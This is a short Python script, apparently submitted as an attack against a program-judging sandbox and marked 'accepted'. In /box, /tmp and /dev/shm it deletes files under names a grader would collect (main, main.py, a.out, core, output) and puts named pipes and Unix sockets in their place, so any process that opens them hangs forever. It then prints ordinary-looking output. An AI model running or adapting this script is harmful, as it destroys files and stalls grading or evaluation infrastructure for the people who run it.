# Attack: pipes and sockets in place of files, everywhere, and under the names a collector would look for: who opens one waits
# for ever.
# Verdict: accepted
import os, socket

names = ['main', 'main.py', 'a.out', 'core', 'output', 'x' * 100]
for folder in ['/box', '/tmp', '/dev/shm']:
    os.chdir(folder)
    for number, name in enumerate(names):
        if os.path.exists(name):
            os.remove(name)
        if number % 2:
            os.mkfifo(name, 0o666)
        else:
            socket.socket(socket.AF_UNIX).bind(name)
print('unharmed', input())
